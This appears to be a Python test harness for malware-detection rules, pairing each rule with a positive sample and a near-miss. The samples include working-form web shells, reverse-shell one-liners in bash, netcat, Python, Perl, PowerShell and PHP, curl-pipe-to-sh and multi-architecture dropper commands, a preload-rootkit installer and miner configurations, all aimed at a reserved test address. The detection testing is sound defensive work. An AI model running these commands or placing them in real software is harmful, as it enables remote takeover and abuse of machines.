#!/usr/bin/env python3
"""Each starter rule finds its harmless positive, and no near-miss; rules without a positive fail the test.

usage: rules_test.py GLACIS RULES_DIR"""
import base64
import json
import pathlib
import re
import subprocess
import sys
import tempfile

WALLET = "4" + "A" * 94
ADDRESS = "192.0.2.1"  # TEST-NET-1: nobody answers there


def elf(kind: int, *strings: str) -> bytes:
    """An ELF header of the given type and strings behind it: not runnable."""
    head = b"\x7fELF\x02\x01\x01" + bytes(9) + kind.to_bytes(2, "little") + b"\x3e\0\x01\0\0\0" + bytes(40)
    return head + b"\0".join(s.encode() for s in ("", *strings, ""))


EICAR = base64.b64decode("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=")
P = "<?" + "php "  # split, so that this file is quiet itself
REQ = "$_" + "POST"

# rule: (positive, near-miss)
SAMPLES = {
    "EICAR_Test_File": (EICAR, EICAR[:-1]),
    "EICAR_Test_String_Embedded": (bytes(100) + EICAR + bytes(100), bytes(100) + EICAR[1:] + bytes(100)),
    "AMTSO_Test_File": (b"AMTSO PUA-Test file", b"AMTSO"),
    "WebShell_PHP_Eval_Of_Request": (f"{P}@ev" f"al({REQ}['x']);", f"{P}$x = {REQ}['x'];"),
    "WebShell_PHP_Command_Of_Request": (f"{P}sys" f"tem( {REQ}['c'] );", f"{P}system('ls');"),
    "WebShell_PHP_Packed_Loader": (f"{P}ev" f"al(gzinflate(base64_decode('{'QUJD' * 80}')));", f"{P}eval(gzinflate(base64_decode('QUJD')));"),
    "WebShell_PHP_Variable_Function": (f"{P}{REQ}['f']({REQ}['a']);", f"{P}f({REQ}['a']);"),
    "WebShell_JSP_Runtime_Exec": ('<% Runtime.getRuntime().ex' 'ec(request.getParameter("c")); %>', "<% Runtime.getRuntime().exec(x); %>"),
    "WebShell_ASPX_Eval_Or_Process": ('<%@ Page Language="Jscript"%><%ev' 'al(Request.Item["x"],"unsafe");%>', "<% x = Request.Item[1] %>"),
    "WebShell_Known_Banners": (f"{P}define('WSO_VER" "SION', '2.5');", f"{P}define('VERSION', '2.5');"),
    "ReverseShell_Bash_DevTcp": (f"bash -i >& /dev/tcp/{ADDRESS}/4444 0>&1", f"echo > /dev/tcp/{ADDRESS}/4444"),
    "ReverseShell_Netcat": (f"nc -e /bin/sh {ADDRESS} 4444", f"nc {ADDRESS} 4444"),
    "ReverseShell_Python": (
        f"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('{ADDRESS}',4444));"
        "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])",
        "import socket; s=socket.socket(); s.connect(('localhost',80))"),
    "ReverseShell_Perl": (
        "use Socket;connect(S,sockaddr_in(4444,inet_aton('" + ADDRESS + "')));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");",
        "use Socket; connect(S, sockaddr_in(80, inet_aton('localhost')));"),
    "ReverseShell_PowerShell": (
        f"$c=New-Object System.Net.Sockets.TCPClient('{ADDRESS}',4444);$s=$c.GetStream();while(($i=$s.Read($b,0,99))){{iex $d}}",
        f"$c=New-Object System.Net.Sockets.TCPClient('{ADDRESS}',4444);$s=$c.GetStream()"),
    "ReverseShell_PHP": (f"{P}$s=fsockopen('{ADDRESS}',4444);ex" "ec('/bin/sh -i <&3 >&3 2>&3');", f"{P}$s=fsockopen('{ADDRESS}',80);"),
    "Miner_XMRig_Configuration": (
        f'{{"donate-level": 1, "randomx": {{}}, "pools": [{{"url": "pool.example.org:3333", "user": "{WALLET}"}}]}}',
        '{"donate-level": 1, "pools": [{"url": "pool.example.org"}]}'),
    "Miner_Stratum_Command_Line": (f"./x -o stratum+tcp://pool.example.org:3333 -u {WALLET}", "./x -o stratum+tcp://pool.example.org:3333 -u me"),
    "Miner_XMRig_Binary": (elf(2, "stratum+ssl://", "xmrig", "randomx_create_vm", "donate-level"), elf(2, "stratum+ssl://", "xmrig")),
    "Miner_Killer_Script": (
        f"#!/bin/bash\npkill -f kdevtmpfsi\ncurl http://{ADDRESS}/a | sh\n", "#!/bin/bash\npkill -f firefox\ncrontab -l\n"),
    "Rootkit_LdPreload_Hides_Files": (
        elf(3, "/etc/ld.so.preload", "dlsym", "readdir64", "readdir", "__xstat", "__lxstat64", "fopen64", "unlinkat", "/proc/net/tcp"),
        elf(2, "/etc/ld.so.preload", "dlsym", "readdir64", "readdir", "__xstat", "__lxstat64", "fopen64", "unlinkat", "/proc/net/tcp")),
    "Rootkit_LdPreload_Known_Names": (elf(3, "libprocesshider", "dlsym", "readdir"), elf(3, "libprocess", "dlsym", "readdir")),
    "Rootkit_Preload_Installer": (
        "#!/bin/sh\necho /lib/libx.so > /etc/ld.so.preload\nchattr +i /etc/ld.so.preload\n", "#!/bin/sh\ncat /etc/ld.so.preload\nhistory -c\n"),
    "Dropper_ELF_Memfd_Exec_Download": (
        elf(2, "memfd_create", "fexecve", f"GET /a HTTP/1.1\r\nHost: {ADDRESS}"), elf(2, "memfd_create", "fexecve")),
    "Dropper_ELF_Busybox_Infection": (elf(2, "/bin/busybox wget", "xc3511", "vizxv"), elf(2, "/bin/busybox wget", "xc3511")),
    "Dropper_ELF_Shell_Downloader": (elf(2, f"wget http://{ADDRESS}/x -O /tmp/x; chmod +x /tmp/x; /tmp/x"), elf(2, f"wget http://{ADDRESS}/x")),
    "Dropper_ELF_Self_Delete_And_Persist": (
        elf(2, "/proc/self/exe", "/etc/cron.hourly/", "/etc/rc.local", "[kworker/", "*/3 * * * * root "), elf(2, "/proc/self/exe", "/etc/rc.local")),
    "Dropper_Shell_Fetch_All_Architectures": (
        "".join(f"wget http://{ADDRESS}/bins/{a}; chmod 777 {a}; ./{a}\n" for a in ("mips", "mpsl", "arm7", "sh4")),
        f"wget http://{ADDRESS}/bins/mips; chmod 777 mips; ./mips\n"),
}


def main() -> int:
    glacis, rules = sys.argv[1], pathlib.Path(sys.argv[2])
    names = re.findall(r"^(?:private )?rule (\w+)", "\n".join(p.read_text() for p in sorted(rules.glob("*.yar"))), re.MULTILINE)
    passed = failed = 0
    with tempfile.TemporaryDirectory() as tmp:
        root = pathlib.Path(tmp)
        for name, pair in SAMPLES.items():
            for kind, data in zip(("hit", "miss"), pair):
                (root / f"{name}.{kind}").write_bytes(data if isinstance(data, bytes) else data.encode())
        run = subprocess.run([glacis, "scan", "-s", str(rules), "--json", "--all", str(root)], capture_output=True, text=True)
        got = {}
        for line in run.stdout.splitlines():
            row = json.loads(line)
            if "path" in row:
                got[pathlib.Path(row["path"]).name] = {f["rule"] for f in row["findings"]}
        for name in names:
            checks = [(f"{name}: has a sample", name in SAMPLES)]
            if name in SAMPLES:
                checks += [(f"{name}: finds its positive", name in got.get(f"{name}.hit", ())),
                           (f"{name}: silent on its near-miss", name not in got.get(f"{name}.miss", {name}))]
            for what, good in checks:
                passed, failed = passed + good, failed + (not good)
                if not good:
                    print("failed:", what)
        if run.returncode != 1:
            print(f"failed: exit code {run.returncode}, wanted 1\n{run.stderr}")
            failed += 1
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
